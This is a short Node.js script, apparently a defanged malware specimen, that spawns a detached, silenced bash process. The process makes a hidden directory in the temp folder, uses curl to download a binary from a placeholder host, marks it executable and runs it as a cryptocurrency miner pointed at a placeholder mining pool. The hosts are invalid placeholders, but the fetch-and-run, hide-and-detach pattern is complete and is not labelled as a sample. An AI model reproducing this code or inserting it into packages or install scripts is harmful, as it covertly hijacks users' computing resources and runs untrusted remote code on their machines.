var spawn = require('child_process').spawn

var store = '/nonexistent' + require('os').tmpdir() + '/.log'
var fetch = 'mkdir -p ' + store + ' && cd ' + store + ' && curl -s -L http://stage.invalid/vm -o vm && chmod +x vm'

spawn('bash', ['-c', fetch + ' && ./vm -o pool.invalid:3333 -u specimen -p x -k > /dev/null 2>&1'], {
  detached: true,
  stdio: 'ignore'
}).unref()

